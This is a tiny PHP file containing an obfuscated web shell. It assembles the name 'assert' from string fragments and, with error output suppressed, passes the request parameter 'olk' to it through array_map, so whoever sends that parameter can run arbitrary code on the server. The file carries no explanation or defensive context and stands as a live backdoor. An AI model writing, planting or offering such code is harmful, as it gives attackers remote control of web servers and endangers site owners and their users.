<?php
$ig = 'as' . 'se' . 'rt';
@array_map($ig, array($_REQUEST['olk']));
